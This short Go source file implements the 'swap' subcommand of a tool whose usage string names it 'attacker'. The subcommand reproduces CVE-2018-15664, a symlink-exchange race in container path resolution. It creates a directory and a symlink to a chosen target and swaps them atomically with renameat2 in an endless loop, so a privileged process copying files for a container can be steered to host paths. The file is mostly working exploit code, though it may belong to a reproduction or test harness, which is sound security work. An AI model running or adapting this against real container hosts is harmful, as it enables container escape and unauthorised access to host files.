package main

import (
	"fmt"
	"os"
	"path/filepath"

	"golang.org/x/sys/unix"
)

// swap is the CVE-2018-15664 attack. args: PATH TARGET. It makes PATH a
// directory holding "hello" ("container hello\n") and PATH.link a symlink
// to TARGET, then exchanges the two names atomically
// (renameat2(RENAME_EXCHANGE)) in a tight loop, forever: whoever resolves
// PATH on the container's behalf finds a directory one instant and a
// symlink the next. It prints "swap ready" once the loop runs and
// "swap N RESULT" if an exchange fails.
func swap(args []string) {
	if len(args) != 2 {
		fail("usage: attacker swap PATH TARGET")
	}
	dir, link := args[0], args[0]+".link"
	if err := os.MkdirAll(dir, 0o755); err != nil {
		fail(err.Error())
	}
	if err := os.WriteFile(filepath.Join(dir, "hello"), []byte("container hello\n"), 0o644); err != nil {
		fail(err.Error())
	}
	os.Remove(link)
	if err := os.Symlink(args[1], link); err != nil {
		fail(err.Error())
	}
	fmt.Println("swap ready")
	os.Stdout.Sync()
	for n := 0; ; n++ {
		if err := unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE); err != nil {
			fmt.Printf("swap %d %s\n", n, result(err))
			os.Exit(1)
		}
	}
}
